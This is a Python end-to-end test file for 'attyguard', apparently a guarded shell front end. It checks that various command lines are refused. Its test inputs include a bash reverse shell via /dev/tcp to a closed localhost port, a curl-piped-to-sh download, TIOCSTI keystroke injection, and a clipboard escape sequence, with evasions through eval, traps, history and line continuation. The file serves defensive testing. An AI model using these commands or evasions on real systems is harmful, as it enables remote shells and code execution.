"""End-to-end (issue 9): a block is a block beyond one line of text, in a real tmux.

One test per family the interactive shell owns. Every payload only touches a
marker file and opens a reverse shell to a closed port on 127.0.0.1; each
test asserts the REFUSED line (or the question) and that the marker was never
created.
"""

from __future__ import annotations

import sys
import time

import pytest

from tests.e2e.conftest import PROMPT_RE

pytestmark = pytest.mark.e2e

REVERSE = "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"


def payload(marker) -> str:
    return f"touch {marker}; {REVERSE}"


def prompt_count(screen: str) -> int:
    return sum(1 for line in screen.splitlines() if line.startswith("[~]$"))


def wait_prompts(t, n: int, timeout: float = 10.0) -> str:
    """Until the n-th prompt is drawn (each line typed leaves one behind)."""
    return t.wait_for(lambda s: prompt_count(s) >= n, timeout=timeout)


def test_family1_state_set_on_an_earlier_line(shell, tmp_path):
    marker = tmp_path / "marker"
    t = shell()
    t.send_line(f"v='{payload(marker)}'")
    wait_prompts(t, 2)
    t.send_line('eval "$v"')
    t.wait_for(r"^REFUSED — ")
    t.send_line("d=/dev")
    wait_prompts(t, 4)
    t.send_line(f"f() {{ touch {marker}; bash -i >& $d/tcp/127.0.0.1/9 0>&1; }}")
    t.send_line("f")
    screen = wait_prompts(t, 6)
    assert screen.count("REFUSED — ") >= 2, screen
    t.send_line("a=/dev; bash -i >& $a/tcp/127.0.0.1/9 0>&1")
    t.wait_for(lambda s: s.count("REFUSED — ") >= 3)
    assert not marker.exists()


def test_family2_code_stored_to_run_later(shell, tmp_path):
    marker = tmp_path / "marker"
    t = shell()
    t.send_line(f"v='{payload(marker)}'")
    wait_prompts(t, 2)
    t.send_line('PROMPT_COMMAND="$v"')
    t.wait_for(r"^REFUSED — ")
    t.send_line('trap "$v" DEBUG')
    t.wait_for(lambda s: s.count("REFUSED — ") >= 2)
    t.send_line("echo still-here")
    t.wait_for(r"^still-here$")
    assert not marker.exists()


def test_family4_history(shell, tmp_path):
    marker = tmp_path / "marker"
    t = shell()
    t.send_line(f"history -s '{payload(marker)}'")
    wait_prompts(t, 2)
    t.send_line("!!")
    # bash's expansion is shown, then judged
    t.wait_for(rf"^touch .*{REVERSE[:20]}.*\n(.*\n)*REFUSED — ")
    t.send_line("fc -s")
    t.wait_for(lambda s: s.count("REFUSED — ") >= 2)
    # on one line with what it re-runs, fc cannot be resolved first: asked about
    t.send_line(f"history -s '{payload(marker)}'; fc -s")
    t.wait_for(r"\[y\]es / \[t\]rust / cancel\?$")
    t.send_keys("Escape")
    t.wait_for(r"cancelled")
    t.send_keys("C-u")
    t.send_line("echo one two")
    t.wait_for(r"^one two$")
    t.send_line("^two^three")
    t.wait_for(r"^echo one three\none three$")
    assert not marker.exists()


@pytest.mark.parametrize("paste", [False, True])
def test_family5_continuation(shell, tmp_path, paste):
    marker = tmp_path / "marker"
    t = shell()
    first = f"touch {marker}; bash -i >& /dev/tc\\"
    if paste:
        t.paste(first)
        t.send_keys("Enter")
    else:
        t.send_line(first)
    t.wait_for(r"^>$")  # PS2: collected, nothing sent to bash yet
    assert not marker.exists()
    t.send_line("p/127.0.0.1/9 0>&1")
    t.wait_for(r"^REFUSED — ")
    t.send_line("echo after")
    t.wait_for(r"^after$")
    assert not marker.exists()


def test_family6_keys_sent_with_enter_are_never_the_answer(shell, tmp_path):
    marker = tmp_path / "marker"
    t = shell()
    # warned (download piped into a shell; https: plain http piped to a shell is
    # refused outright); `y` and `t` arrive with the Enter
    t.send_text(f"curl -fsS https://example.invalid/i.sh | sh; touch {marker}")
    t.send_keys("Enter", "y", "t")
    t.wait_for(r"\[y\]es / \[t\]rust / cancel\?")
    # (give a wrongly taken answer every chance to run the line)
    deadline = time.monotonic() + 1.0
    while time.monotonic() < deadline:
        assert not marker.exists()
        time.sleep(0.05)
    assert t.screen().rstrip().endswith("cancel?") or "early key" in t.screen()
    t.send_keys("Escape")
    t.wait_for(r"cancelled")
    assert not marker.exists()


def test_family7_side_doors(shell, tmp_path):
    marker = tmp_path / "marker"
    injector = tmp_path / "inject.py"
    injector.write_text(
        "import fcntl, termios, time\n"
        "time.sleep(1.0)\n"
        f"for c in b'touch {marker}\\r':\n"
        "    fcntl.ioctl(0, termios.TIOCSTI, bytes([c]))\n")
    t = shell()
    t.send_line(f"{sys.executable} {injector} &")
    t.wait_for(r"did not come from attyguard reached bash and was not run", timeout=15)
    assert not marker.exists()
    # A hook cannot be redefined (Tab calls the completion hook): refused by the
    # front end; bash itself has them read-only (tests/test_shell_sidedoors.py).
    t.send_line(f"__ag_complete() {{ touch {marker}; }}")
    t.wait_for(r"^REFUSED — Changes attyguard's own hooks")
    t.send_text("ech")
    t.send_keys("Tab")
    t.wait_for(r"\$ echo ?$")
    t.send_keys("C-u")
    t.send_line("echo done")
    t.wait_for(r"^done$")
    assert not marker.exists()


def test_family8_nested_shells_are_guarded(shell, tmp_path, attyguard_bin):
    marker = tmp_path / "marker"
    t = shell()
    t.send_line("echo $SHELL")
    t.wait_for(rf"^{attyguard_bin}$")
    t.send_line("bash")
    wait_prompts(t, 3, timeout=15)  # the nested attyguard's own prompt
    t.send_line(payload(marker))
    t.wait_for(r"^REFUSED — ")
    t.send_line("exit")
    wait_prompts(t, 5, timeout=15)
    t.send_line("echo back")
    t.wait_for(r"^back$")
    assert not marker.exists()


def test_family8_unguardable_shells_are_named(shell):
    t = shell()
    t.send_line("su")
    t.wait_for(r"`su` starts is not guarded: its lines are not judged")
    t.send_line("exit")
    t.wait_for(PROMPT_RE)


def test_family11_refused_line_in_direct_colour_and_clipboard_stripped(shell, ag_env,
                                                                      tmp_path):
    from pathlib import Path

    config = Path(ag_env["ATTYGUARD_HOME"]) / "config" / "config.toml"
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text("[terminal]\nstrip_clipboard = true\n")
    marker = tmp_path / "marker"
    t = shell()
    t.tmux("set", "-g", "set-clipboard", "on")
    # a palette change first: the REFUSED line must not depend on the palette
    t.send_line("printf '\\e]4;196;rgb:00/00/00\\a\\e]52;c;c3RvbGVu\\a'; echo printed")
    t.wait_for(r"^printed$")
    t.send_line(payload(marker))
    t.wait_for(r"^REFUSED — ")
    coloured = t.tmux("capture-pane", "-p", "-e", "-t", "0")
    refused = next(line for line in coloured.splitlines() if "REFUSED" in line)
    assert "38;2;255;0;0" in refused or "38:2::255:0:0" in refused, repr(refused)
    assert "stolen" not in t.tmux("show-buffer", check=False)
    assert not marker.exists()
